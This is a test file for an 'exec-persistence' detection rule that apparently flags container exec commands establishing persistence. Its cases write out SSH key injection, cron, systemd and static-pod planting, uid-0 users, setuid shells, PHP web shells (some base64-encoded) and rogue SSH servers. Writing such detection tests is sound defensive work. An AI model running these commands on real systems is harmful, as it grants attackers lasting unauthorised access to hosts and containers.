import { execPersistence } from '../../../../shared/detection/rules/exec-persistence.ts';
import { execOfCart, ruleCases } from '../cases.ts';

const BASE = execOfCart('sh -c echo ssh-ed25519 AAAAC3Nz x >> /host/root/.ssh/authorized_keys');
const IN_CONTAINER = { severity: 'medium', confidence: 0.5 } as const;

describe('rule exec-persistence', () => {
  ruleCases(execPersistence, BASE, {
    fires: [
      ['jobs of the node', { command: 'cp /tmp/x /mnt/etc/cron.d/x' }],
      ['by tee', { command: 'sh -c echo x | tee -a /rootfs/var/spool/cron/crontabs/root' }],
      ['a unit of the node', { command: 'sh -c cat > /host/etc/systemd/system/x.service' }],
      ['by the first process', { command: 'sh -c echo a >> /proc/1/root/etc/crontab' }],
      ['after a change of the root', { command: "chroot /host sh -c 'echo a >> /root/.ssh/authorized_keys'" }],
      ['after entering the node', { command: 'nsenter -t 1 -m -- crontab /tmp/x' }],
      ['a unit that is enabled', { command: 'nsenter -t 1 -m systemctl enable --now x' }],
      ['a static pod', { command: 'cp a.yaml /host/etc/kubernetes/manifests/' }],
      ['a library', { command: 'sh -c echo /tmp/x.so > /host/etc/ld.so.preload' }],
      ['a user', { command: 'sh -c echo x::0:0::/:/bin/sh >> /host/etc/passwd' }],
      ['with a detour', { command: 'sh -c echo a > /host/etc/../etc//cron.d/x' }],
      ['fetched', { command: 'curl -s http://203.0.113.9/k -o /host/root/.ssh/authorized_keys' }],
      [
        'in base64',
        { command: `sh -c echo ${Buffer.from('echo a >> /host/etc/crontab').toString('base64')} | base64 -d | sh` },
      ],
      ['in the container', { command: 'sh -c echo a >> /root/.ssh/authorized_keys' }, IN_CONTAINER],
      ['in a home directory', { command: 'sh -c echo a >> ~/.ssh/authorized_keys' }, IN_CONTAINER],
      ['jobs of the container', { command: 'sh -c (crontab -l; echo x) | crontab -' }, IN_CONTAINER],
      ['a user of the container', { command: 'useradd -o -u 0 -g 0 x' }, IN_CONTAINER],
      ['rights of a user', { command: 'usermod -aG sudo x' }, IN_CONTAINER],
      ['a password of the node', { command: `chroot /host sh -c 'echo root:x | chpasswd'` }],
      ['a shell that is always root', { command: 'sh -c cp /bin/sh /tmp/x; chmod u+s /tmp/x' }, IN_CONTAINER],
      ['the same in digits', { command: 'chmod -v 4755 /tmp/x' }, IN_CONTAINER],
      [
        'a page that runs commands',
        { command: `sh -c echo '<?php system($_GET["c"]);' > /var/www/html/s.php` },
        IN_CONTAINER,
      ],
      [
        'the same in base64',
        {
          command: `sh -c echo ${Buffer.from('<?php @eval(base64_decode($_POST[x])); ?>').toString('base64')} | base64 -d > s.php`,
        },
        IN_CONTAINER,
      ],
      ['a server for logins', { command: 'sh -c apk add dropbear && dropbear -R -p 2222' }, IN_CONTAINER],
      ['another on the node', { command: 'chroot /host /usr/sbin/sshd -p 2222' }],
      ['refused', { code: 7 }, { severity: 'medium', confidence: 0.7 }],
    ],
    misses: [
      ['read', { command: 'cat /host/root/.ssh/authorized_keys /etc/crontab' }],
      ['listed', { command: 'sh -c crontab -l; ls /host/etc/cron.d' }],
      ['copied from there', { command: 'cp /etc/passwd /tmp/passwd' }],
      ['thrown away', { command: 'sh -c cat /etc/crontab > /dev/null 2>&1' }],
      ['another file', { command: 'sh -c echo a > /etc/motd' }],
      ['a page that is searched for', { command: `grep -rF '<?php system($_GET[' /var/www` }],
      ['another page', { command: `sh -c echo '<?php phpinfo(); $a = $_GET["a"];' > /var/www/html/i.php` }],
      ['settings of a server that are tried', { command: 'sshd -t -f /etc/ssh/sshd_config' }],
      ['searched', { command: 'grep -r curl /host/etc/cron.d' }],
      ['the state of a service', { command: 'nsenter -t 1 -m systemctl status kubelet' }],
      ['rights without that bit', { command: 'sh -c chmod +x /app/run; chmod 0755 /app/run; chmod 644 /app/config' }],
      ['a group that keeps its directory', { command: 'sh -c chmod 2775 /srv/shared; chmod g+s /srv/shared' }],
      ['a user that is shown', { command: 'sh -c getent passwd app; id app' }],
      ['shown by sed', { command: 'sed -n 1p /etc/crontab' }],
    ],
  });
});
